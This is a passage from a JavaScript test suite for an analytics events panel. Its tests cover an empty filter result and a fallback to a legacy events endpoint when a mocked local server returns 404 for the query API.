    const posted = await listed(panel, { event: 'no such event' });
    assert.ok(posted.some((message) => message.type === 'status' && message.note === 'No events match event = "no such event".'), JSON.stringify(posted.slice(-2)));
  });

  it('legacy fallback: a server answering 404 to /query/ is listed by the legacy events list, property columns shown', async () => {
    await localApi.setQueryApi(false);
    await localApi.clearRequests();
    try {
      const posted = await listed(panel, { columns: '$browser, upper(event)' });
      const { rows } = rowsOf(posted);
      assert.ok(rows.length > 0);
      assert.ok(rows.some((row) => row.cells[4] !== '') && rows.every((row) => row.cells[5] === ''));
      assert.ok(posted.some((message) => message.type === 'status' && /upper\(event\)/.test(message.note ?? '') && /Query API/.test(message.note ?? '')));
      const paths = (await localApi.requests()).map((request) => request.path);
      assert.ok(paths.includes(`/api/projects/${projectId}/events/`), paths.join(' '));
    } finally {
      await localApi.setQueryApi(true);
    }
  });
});
